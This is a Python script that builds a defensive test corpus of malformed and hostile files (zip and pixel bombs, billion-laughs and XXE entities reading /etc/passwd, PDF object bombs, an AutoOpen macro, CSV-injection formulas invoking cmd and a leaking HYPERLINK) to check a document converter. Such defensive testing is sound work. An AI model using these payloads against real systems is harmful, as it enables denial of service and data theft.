"""Build tests/data/bad/: broken and hostile input files, each with the outcome it must have.

Run from the repository root:

    python scripts/build_bad_corpus.py            # writes tests/data/bad/*, MANIFEST.json
    python scripts/build_bad_corpus.py --check    # exit 1 if a rebuild would change a committed file

Deterministic: seeded random bytes, fixed zip timestamps, reportlab's ``invariant`` mode and
hand-written PDFs. Most files derive from samples/plochingen.{txt,docx,pdf}, so "read it anyway"
cases can be compared with the sample. Every committed file is small (the zip bomb declares 5 GiB in
about 100 KB); the inputs that cannot or should not be committed (100 MB of text, an unreadable file,
a FIFO, a symlink loop) are made at test time by tests/test_bad_inputs.py.

MANIFEST.json maps each file name to {"expect": <error code> | "ok", "warning": <code, optional>,
"why": <what the file is>}; paths starting with "../" point at bad files kept elsewhere in tests/data.
"""
from __future__ import annotations

import argparse
import bz2
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "samples"
OUT = ROOT / "tests" / "data" / "bad"
SEED = 7
MiB = 1024 * 1024
ZIP_TIME = (1980, 1, 1, 0, 0, 0)


# --- docx helpers ---------------------------------------------------------------------------------

def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def _zip(members: list[tuple[str, bytes]], compress_type: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, blob in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = compress_type
            info.external_attr = 0o644 << 16
            zf.writestr(info, blob)
    return buf.getvalue()


def _edit(members: list[tuple[str, bytes]], name: str, edit) -> list[tuple[str, bytes]]:
    assert any(n == name for n, _ in members), name
    return [(n, edit(b) if n == name else b) for n, b in members]


def _with_doctype(doctype: bytes, body_edit=lambda b: b):
    def edit(blob: bytes) -> bytes:
        head, rest = blob.split(b"?>", 1)
        return head + b"?>" + doctype + body_edit(rest)
    return edit


BILLION_LAUGHS = b"".join([
    b'<!DOCTYPE w:document [<!ENTITY lol "lol">',
    *(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)),
    b"]>",
])
EXTERNAL_ENTITY = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _first_text_run(entity: bytes, opening: bytes = b"<w:t"):
    """Put ``&entity;`` into the first text run (docx; ``opening`` b"<text:p " for odt) so an expanding
    parser would print it."""
    def edit(rest: bytes) -> bytes:
        at = rest.index(opening)
        close = rest.index(b">", at) + 1
        return rest[:close] + b"&" + entity + b";" + rest[close:]
    return edit


def _nest_tables(depth: int):
    """Wrap the body's first paragraph in ``depth`` nested one-cell tables."""
    def edit(blob: bytes) -> bytes:
        at = blob.index(b"<w:p>") if b"<w:p>" in blob else blob.index(b"<w:p ")
        end = blob.index(b"</w:p>", at) + len(b"</w:p>")
        para = blob[at:end]
        nested = para
        for _ in range(depth):
            nested = b"<w:tbl><w:tr><w:tc>" + nested + b"</w:tc></w:tr></w:tbl><w:p/>"
        return blob[:at] + nested + blob[end:]
    return edit


def _overlapping_bomb(base: list[tuple[str, bytes]], inflated: int, copies: int) -> bytes:
    """A zip bomb: one member of ``inflated`` zero bytes, listed ``copies`` times in the central
    directory (every entry points at the same data), so the archive declares copies x inflated."""
    name = "word/media/image1.png"
    data = bytearray(_zip(base))
    eocd_at = data.rindex(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<L", data, eocd_at + 16)[0]
    central = bytes(data[cd_offset:eocd_at])
    body = io.BytesIO(bytes(data[:cd_offset]))
    body.seek(0, 2)
    # The bomb member: deflated zeros, streamed so building it never holds the inflated bytes.
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, chunk = 0, bytes(MiB)
    parts = []
    for _ in range(inflated // MiB):
        parts.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(comp.flush())
    deflated = b"".join(parts)
    raw_name = name.encode()
    offset = body.tell()
    body.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(deflated), inflated,
                           len(raw_name), 0) + raw_name + deflated)
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(deflated), inflated,
                        len(raw_name), 0, 0, 0, 0, 0o644 << 16, offset) + raw_name
    new_cd_offset = body.tell()
    count = central.count(b"PK\x01\x02") + copies
    central += entry * copies
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), new_cd_offset, 0)
    return body.getvalue() + central + eocd


def _bzip2_liar(base: list[tuple[str, bytes]], inflated: int) -> bytes:
    """A bzip2 member whose ~800 bytes inflate to ``inflated`` zeros while the zip says 1,000 bytes."""
    comp = bz2.BZ2Compressor(9)
    chunk = bytes(16 * MiB)
    blob = b"".join([comp.compress(chunk) for _ in range(inflated // len(chunk))] + [comp.flush()])
    data = bytearray(_zip(base))
    eocd_at = data.rindex(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<L", data, eocd_at + 16)[0]
    central = bytes(data[cd_offset:eocd_at])
    raw_name = b"word/media/image1.bin"
    declared = 1000
    crc = zlib.crc32(bytes(declared))
    head = bytes(data[:cd_offset])
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 46, 0, 12, 0, 33, crc, len(blob), declared,
                        len(raw_name), 0) + raw_name + blob
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 46, 46, 0, 12, 0, 33, crc, len(blob), declared,
                        len(raw_name), 0, 0, 0, 0, 0o644 << 16, len(head)) + raw_name
    central += entry
    count = central.count(b"PK\x01\x02")
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(head) + len(local), 0)
    return head + local + central + eocd


# --- pdf helpers ------------------------------------------------------------------------------------

def _pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF from numbered objects (object i+1 is objects[i]) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref_at)
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 11 Tf 72 760 Td (Seite mit Text) Tj ET"


def _pdf_compact(objects: list[bytes], *, root: int = 1) -> bytes:
    """A PDF 1.5 whose dictionaries sit in one compressed object stream (with an xref stream):
    thousands of objects in a few KB. Streams (bodies starting with ``<< /Length``) stay outside."""
    inside = [i for i, body in enumerate(objects, start=1) if b"stream\n" not in body]
    objstm_num, xref_num = len(objects) + 1, len(objects) + 2
    pairs, bodies, at = [], [], 0
    for number in inside:
        pairs.append(b"%d %d" % (number, at))
        bodies.append(objects[number - 1])
        at += len(objects[number - 1]) + 1
    header = b" ".join(pairs) + b"\n"
    objstm = _stream(header + b"\n".join(bodies), b"/Type /ObjStm /N %d /First %d " % (len(inside), len(header)))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        if number not in inside:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[objstm_num] = len(out)
    out += b"%d 0 obj\n" % objstm_num + objstm + b"\nendobj\n"
    offsets[xref_num] = len(out)
    index_in_stream = {number: i for i, number in enumerate(inside)}
    rows = [struct.pack(">BLH", 0, 0, 65535)]
    for number in range(1, xref_num + 1):
        if number in offsets:
            rows.append(struct.pack(">BLH", 1, offsets[number], 0))
        else:
            rows.append(struct.pack(">BLH", 2, objstm_num, index_in_stream[number]))
    xref = _stream(b"".join(rows), b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R " % (xref_num + 1, root))
    out += b"%d 0 obj\n" % xref_num + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_num]
    return bytes(out)


def _many_pages_pdf(pages: int) -> bytes:
    """``pages`` real pages (distinct page objects, one shared content stream), a few KB on disk."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    return _pdf_compact([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> >>"
        % (pages, kids),
        _stream(_TEXT),
        _FONT,
        *(b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>" for _ in range(pages)),
    ])


def _huge_count_pdf() -> bytes:
    """One real page; the page tree claims a billion."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(_TEXT),
        _FONT,
    ])


def _object_bomb_pdf(outer: int, inner: int) -> bytes:
    """One page drawing a form XObject ``outer`` times; the form draws ``inner`` rectangles: a file of a
    few KB that asks for outer x inner drawing operations (plus one line of text)."""
    rects = b"".join(b"%d %d 1 1 re f\n" % (i % 500, (i * 7) % 800) for i in range(inner))
    uses = b"q /Fm1 Do Q\n" * outer
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> /XObject << /Fm1 5 0 R >> >> >>",
        _stream(_TEXT + b"\n" + uses),
        _stream(rects, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
        _FONT,
    ])


def _page_tree_loop_pdf() -> bytes:
    """The page tree's only kid is the tree itself: no page anywhere."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>",
    ])


def _deep_page_tree_pdf(depth: int) -> bytes:
    """Page-tree nodes nested ``depth`` deep above one page (recursive walkers overflow the stack)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        objects.append(b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1))
    objects.append(b"<< /Type /Page /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>"
                   % (depth + 3, depth + 4))
    objects.append(_stream(_TEXT))
    objects.append(_FONT)
    return _pdf_compact(objects)


def _reportlab_pdf(draw, **canvas_args) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, invariant=1, **canvas_args)
    draw(c)
    c.showPage()
    c.save()
    return buf.getvalue()


def _encrypted_pdf() -> bytes:
    from reportlab import rl_config
    rl_config.invariant = 1  # before pdfencrypt is imported: fixed instead of random salts
    from reportlab.lib import pdfencrypt
    enc = pdfencrypt.StandardEncryption("geheim", ownerPassword="owner", strength=128)

    def draw(c):
        c.setFont("Helvetica", 12)
        c.drawString(72, 760, "Angaben zur Kommune")
        c.drawString(72, 740, "Vertraulicher Bericht der Stadt Musterstadt.")
    return _reportlab_pdf(draw, encrypt=enc)


def _image_only_pdf() -> bytes:
    """A "scan": one page that is a bitmap of noise (deterministic), no text objects."""
    from reportlab.lib.utils import ImageReader
    rng = random.Random(SEED)
    width, height = 200, 280
    pixels = bytes(rng.choice((0, 255)) for _ in range(width * height))
    # A minimal binary PGM is enough for reportlab's ImageReader (via Pillow).
    pgm = b"P5 %d %d 255\n" % (width, height) + pixels
    image = ImageReader(io.BytesIO(pgm))

    def draw(c):
        c.drawImage(image, 50, 100, width=495, height=693)
    return _reportlab_pdf(draw)


def _page_image(fmt: str) -> bytes:
    """Page 1 of samples/plochingen.pdf as a small grayscale image file (50 dpi)."""
    import pypdfium2
    page = pypdfium2.PdfDocument(SAMPLES / "plochingen.pdf")[0]
    out = io.BytesIO()
    page.render(scale=50 / 72, grayscale=True).to_pil().convert("L").save(out, fmt)
    return out.getvalue()


def _png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` x ``height`` pixels, with one row of data."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * (width + 1)))
            + chunk(b"IEND", b""))


# --- office formats: odt, doc, rtf (issue 15) ----------------------------------------------------------

def _odf_encrypt(members: list[tuple[str, bytes]], password: bytes) -> bytes:
    """The package saved with a password as LibreOffice does it (ODF 1.2: each XML part deflated, then
    AES-256-CBC with a PBKDF2 key from the password's SHA-256; the manifest gives each part its
    encryption data). Salt and IV are fixed so the file is reproducible."""
    import base64
    import hashlib

    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    b64 = lambda b: base64.b64encode(b).decode()  # noqa: E731
    start_key = hashlib.sha256(password).digest()
    entries, out = [], []
    for number, (name, blob) in enumerate(members):
        if name not in ("content.xml", "styles.xml", "meta.xml", "settings.xml"):
            out.append((name, blob))
            continue
        salt, iv = bytes([number]) * 16, bytes([number + 1]) * 16
        key = hashlib.pbkdf2_hmac("sha1", start_key, salt, 100_000, 32)
        deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = deflater.compress(blob) + deflater.flush()
        padder = padding.PKCS7(128).padder()
        encryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
        sealed = encryptor.update(padder.update(deflated) + padder.finalize()) + encryptor.finalize()
        out.append((name, sealed))
        entries.append(
            f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml" '
            f'manifest:size="{len(blob)}"><manifest:encryption-data manifest:checksum-type='
            f'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" '
            f'manifest:checksum="{b64(hashlib.sha256(deflated[:1024]).digest())}">'
            f'<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" '
            f'manifest:initialisation-vector="{b64(iv)}"/><manifest:start-key-generation '
            f'manifest:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256" manifest:key-size="32"/>'
            f'<manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" '
            f'manifest:iteration-count="100000" manifest:salt="{b64(salt)}"/></manifest:encryption-data>'
            f'</manifest:file-entry>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                '<manifest:file-entry manifest:full-path="/" manifest:version="1.3" '
                'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                + "".join(entries) + "</manifest:manifest>").encode()
    out = [(n, manifest if n == "META-INF/manifest.xml" else b) for n, b in out]
    return _zip_stored_first(out)


def _zip_stored_first(members: list[tuple[str, bytes]]) -> bytes:
    """An OpenDocument zip: the mimetype member first and stored, encrypted parts stored (already
    deflated before encryption), the rest deflated."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, blob in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            encrypted = name.endswith(".xml") and not blob.lstrip().startswith(b"<")
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" or encrypted else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, blob)
    return buf.getvalue()


def _doc_flagged_encrypted(doc: bytes) -> bytes:
    """A .doc whose FIB says fEncrypted (bit 0x0100 of the flags word at offset 10 of the WordDocument
    stream), as Word marks a password-protected file; the streams themselves are left as they are."""
    import tempfile

    import olefile
    with tempfile.NamedTemporaryFile(suffix=".doc") as tmp:
        tmp.write(doc)
        tmp.flush()
        with olefile.OleFileIO(tmp.name, write_mode=True) as ole:
            stream = bytearray(ole.openstream("WordDocument").read())
            stream[10:12] = struct.pack("<H", struct.unpack_from("<H", stream, 10)[0] | 0x0100)
            ole.write_stream("WordDocument", bytes(stream))
        return Path(tmp.name).read_bytes()


def _ole_stream_renamed(doc: bytes, old: str, new: str) -> bytes:
    """The OLE2 file with one directory entry renamed in place (name field and its length): a .doc whose
    main stream is "Workbook" is, to any reader, an Excel 97-2003 file."""
    at = doc.index(old.encode("utf-16-le") + b"\0\0")
    name = new.encode("utf-16-le").ljust(64, b"\0")
    return doc[:at] + name + struct.pack("<H", len(new) * 2 + 2) + doc[at + 66:]


# Would write a file named by $MACRO_MARKER when the document is opened (Word's AutoOpen).
MACRO = 'Sub AutoOpen()\n    Open Environ("MACRO_MARKER") For Output As #1\n    Print #1, "ran"\n    Close #1\nEnd Sub\n'


def office_files(add) -> None:
    """The bad .odt, .doc and .rtf files, made from the committed LibreOffice twins of plochingen.docx."""
    if str(ROOT) not in sys.path:  # run as a script: testkit is beside scripts/
        sys.path.insert(0, str(ROOT))
    from testkit.ole import with_macro
    odt_bytes = (SAMPLES / "plochingen.odt").read_bytes()
    odt = _members(odt_bytes)
    doc_bytes = (SAMPLES / "plochingen.doc").read_bytes()
    add("zip_bomb.odt", _overlapping_bomb(odt, 100 * MiB, 50), "too_large",
        "samples/plochingen.odt plus a member of 100 MiB of zeros listed 50 times: declares 4.9 GiB")
    add("billion_laughs.odt",
        _zip_stored_first(_edit(odt, "content.xml", _with_doctype(BILLION_LAUGHS, _first_text_run(b"lol9", b"<text:p ")))),
        "hostile", "content.xml declares nested entities (10^9 'lol's when expanded)")
    add("external_entity.odt",
        _zip_stored_first(_edit(odt, "content.xml", _with_doctype(EXTERNAL_ENTITY, _first_text_run(b"xxe", b"<text:p ")))),
        "hostile", "content.xml declares an external entity reading /etc/passwd and uses it")
    add("encrypted.odt", _odf_encrypt(odt, b"geheim"), "encrypted",
        "samples/plochingen.odt saved with the password 'geheim' (AES-256, as LibreOffice encrypts)")
    add("spreadsheet_named.odt",
        _zip_stored_first(_edit(odt, "mimetype", lambda b: b"application/vnd.oasis.opendocument.spreadsheet")),
        "unsupported", "an OpenDocument package whose mimetype says spreadsheet, named .odt")
    add("odt_named.docx", odt_bytes, "ok", "samples/plochingen.odt named .docx: read as odt",
        warning="format_mismatch", same_text_as="samples/plochingen.odt")
    add("encrypted.doc", _doc_flagged_encrypted(doc_bytes), "encrypted",
        "samples/plochingen.doc with the FIB's fEncrypted flag set, as Word marks a password-protected file")
    add("workbook_named.doc", _ole_stream_renamed(doc_bytes, "WordDocument", "Workbook"), "unsupported",
        "an OLE2 file whose main stream is a Workbook (as in Excel 97-2003), named .doc")
    add("macro.doc", with_macro(doc_bytes, "Module1", MACRO), "ok",
        "samples/plochingen.doc with a VBA project (Macros/VBA/Module1: an AutoOpen macro writing a file): "
        "converted without loading it", same_text_as="samples/plochingen.doc")
    add("truncated.doc", doc_bytes[: len(doc_bytes) // 2], "corrupt",
        "the first half of samples/plochingen.doc (its OLE2 directory is cut off)")
    add("deep_nesting.rtf", b"{\\rtf1\\ansi " + b"{" * 100_000 + b"Text" + b"}" * 100_000 + b"}", "hostile",
        "100,000 groups nested in one another (refused before LibreOffice starts)")
    add("bin_overrun.rtf", b"{\\rtf1\\ansi Hallo {\\pict\\pngblip\\picw10\\pich10 \\bin2147483000 abc}}",
        "hostile", "60 bytes declaring 2 GB of binary picture data (\\bin): kept LibreOffice busy for minutes")


# --- the corpus -------------------------------------------------------------------------------------

def build() -> dict[str, tuple[bytes, dict]]:
    """{file name: (bytes, manifest entry)}"""
    rng = random.Random(SEED)
    txt = (SAMPLES / "plochingen.txt").read_bytes()
    docx_bytes = (SAMPLES / "plochingen.docx").read_bytes()
    pdf_bytes = (SAMPLES / "plochingen.pdf").read_bytes()
    members = _members(docx_bytes)
    text = txt.decode("utf-8")
    files: dict[str, tuple[bytes, dict]] = {}

    def add(name: str, data: bytes, expect: str, why: str, warning: str | None = None,
            same_text_as: str | None = None, encoding: str | None = None) -> None:
        entry = {"expect": expect, "why": why}
        for key, value in (("warning", warning), ("same_text_as", same_text_as), ("encoding", encoding)):
            if value:
                entry[key] = value
        files[name] = (data, entry)

    office_files(add)
    add("empty.txt", b"", "empty", "0 bytes")
    add("garbage.txt", bytes(rng.getrandbits(8) for _ in range(8192)), "decode",
        "8 KB of random bytes named .txt")
    add("text_named.pdf", txt, "corrupt", "plain text named .pdf (no PDF header)")
    add("docx_named.pdf", docx_bytes, "ok", "samples/plochingen.docx named .pdf: read as docx",
        warning="format_mismatch", same_text_as="samples/plochingen.docx")
    add("pdf_named.docx", pdf_bytes, "ok", "samples/plochingen.pdf named .docx: read as pdf",
        warning="format_mismatch", same_text_as="samples/plochingen.pdf")
    add("truncated.docx", docx_bytes[: len(docx_bytes) // 2], "corrupt",
        "the first half of samples/plochingen.docx (no central directory)")
    add("malformed_xml.docx",
        _zip(_edit(members, "word/document.xml", lambda b: b.replace(b"</w:body>", b"</w:bod>"))),
        "corrupt", "word/document.xml is not well-formed (</w:body> misspelt)")
    add("billion_laughs.docx",
        _zip(_edit(members, "word/document.xml", _with_doctype(BILLION_LAUGHS, _first_text_run(b"lol9")))),
        "hostile", "word/document.xml declares nested entities (10^9 'lol's when expanded)")
    add("external_entity.docx",
        _zip(_edit(members, "word/document.xml", _with_doctype(EXTERNAL_ENTITY, _first_text_run(b"xxe")))),
        "hostile", "word/document.xml declares an external entity reading /etc/passwd and uses it")
    add("deep_nesting.docx", _zip(_edit(members, "word/document.xml", _nest_tables(200))), "corrupt",
        "200 tables nested in one another (600 XML levels; libxml2 refuses more than 256)")
    add("zip_bomb.docx", _overlapping_bomb(members, 100 * MiB, 50), "too_large",
        "a member of 100 MiB of zeros listed 50 times in the central directory: declares 4.9 GiB")
    add("zip_bomb_bzip2.docx", _bzip2_liar(members, 1024 * MiB), "unsupported",
        "a bzip2 member of ~800 bytes inflating to 1 GiB while the zip declares 1,000 bytes")
    add("encrypted.pdf", _encrypted_pdf(), "encrypted", "user password 'geheim' (RC4 128)")
    add("image_only.pdf", _image_only_pdf(), "no_text_layer", "one page that is only a bitmap")
    png, jpeg = _page_image("PNG"), _page_image("JPEG")
    add("truncated.png", png[: len(png) * 6 // 10], "corrupt", "the first 60 % of a PNG of a page")
    add("truncated.jpg", jpeg[: len(jpeg) * 6 // 10], "corrupt", "the first 60 % of a JPEG of a page")
    add("not_an_image.png", b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(4096)), "corrupt",
        "the PNG signature, then 4 KB of random bytes")
    add("pixel_bomb.png", _png_declaring(100_000, 100_000), "too_large",
        "a PNG declaring 100,000 x 100,000 pixels (10 GB decoded) in 400 bytes")
    add("truncated.pdf", pdf_bytes[: len(pdf_bytes) * 6 // 10], "corrupt",
        "the first 60 % of samples/plochingen.pdf")
    add("many_pages.pdf", _many_pages_pdf(2500), "too_large", "2,500 real pages (limit 2,000) in an object stream")
    add("huge_page_count.pdf", _huge_count_pdf(), "too_large", "one page; the page tree claims /Count 1000000000")
    add("object_bomb.pdf", _object_bomb_pdf(1000, 1000), "too_large",
        "one page drawing a form 1,000 times, the form drawing 1,000 rectangles (10^6 objects)")
    add("page_tree_loop.pdf", _page_tree_loop_pdf(), "corrupt", "the page tree's only kid is itself: no pages")
    add("deep_page_tree.pdf", _deep_page_tree_pdf(3000), "corrupt",
        "one page under 3,000 nested page-tree nodes (a recursive walk overflows)")
    for name, data, why, encoding in (
            ("utf16le_bom.txt", codecs_bom("utf-16-le") + text.encode("utf-16-le"), "LE with BOM", "utf-16"),
            ("utf16be_bom.txt", codecs_bom("utf-16-be") + text.encode("utf-16-be"), "BE with BOM", "utf-16"),
            ("utf16le_nobom.txt", text.encode("utf-16-le"), "LE, no BOM", "utf-16-le"),
            ("utf16be_nobom.txt", text.encode("utf-16-be"), "BE, no BOM", "utf-16-be")):
        add(name, data, "ok", f"samples/plochingen.txt in UTF-16 {why}", same_text_as="samples/plochingen.txt",
            encoding=encoding)
    ascii_text = "Angaben zur Kommune\nName der Stadt oder Gemeinde: Musterstadt\nAnsprechpartner: Herr Beispiel\n"
    add("utf16le_nobom_ascii.txt", ascii_text.encode("utf-16-le"), "ok",
        "ASCII-only text in UTF-16 LE without BOM (also valid UTF-8, full of NULs)", encoding="utf-16-le")
    add("formula_payloads.txt", _formula_report(text), "ok",
        "samples/plochingen.txt with spreadsheet formulas (=HYPERLINK, +cmd, -cmd, @SUM) as the municipality, "
        "district, region, contact and role: exported as text, never as formulas")
    return files


# --- hostile content for the outputs (issue 12) ------------------------------------------------------

# Spreadsheet formulas (OWASP's CSV-injection examples) where a report's fields are: each must reach
# csv and xlsx exports as text, never as a live formula.
FORMULA_PAYLOADS = {
    "municipality": '=HYPERLINK("http://example.invalid/?leak="&A1,"Klick")',
    "district": "+1+cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "role": "=1+1",
}


def _formula_report(text: str) -> bytes:
    """samples/plochingen.txt with a formula in every field of the municipality part."""
    lines = text.split("\n")
    replace = {"Plochingen -> www.plochingen.de": FORMULA_PAYLOADS["municipality"],
               "Esslingen": FORMULA_PAYLOADS["district"], "Stuttgart": FORMULA_PAYLOADS["region"],
               "Felix Unseld": FORMULA_PAYLOADS["contact"], "Kommunaler Flüchtlingskoordinator": FORMULA_PAYLOADS["role"]}
    for i, line in enumerate(lines):
        if line.strip() in replace:
            lines[i] = replace.pop(line.strip())
    assert not replace, replace
    return "\n".join(lines).encode("utf-8")


def codecs_bom(encoding: str) -> bytes:
    import codecs
    return {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}[encoding]


def manifest(files: dict[str, tuple[bytes, dict]]) -> dict:
    return {name: entry for name, (_, entry) in sorted(files.items())}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="compare with the committed files, write nothing")
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args(argv)
    files = build()
    wanted = {name: data for name, (data, _) in files.items()}
    wanted["MANIFEST.json"] = (json.dumps(manifest(files), ensure_ascii=False, indent=2) + "\n").encode()
    if args.check:
        changed = [n for n, d in wanted.items() if not (args.out / n).exists() or (args.out / n).read_bytes() != d]
        extra = sorted(p.name for p in args.out.iterdir() if p.name not in wanted) if args.out.exists() else []
        for name in changed:
            print(f"differs: {name}")
        for name in extra:
            print(f"not built by this script: {name}")
        return 1 if changed or extra else 0
    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in wanted.items():
        (args.out / name).write_bytes(data)
    total = sum(len(d) for d in wanted.values())
    print(f"wrote {len(wanted)} files, {total / 1024:.0f} KB, to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
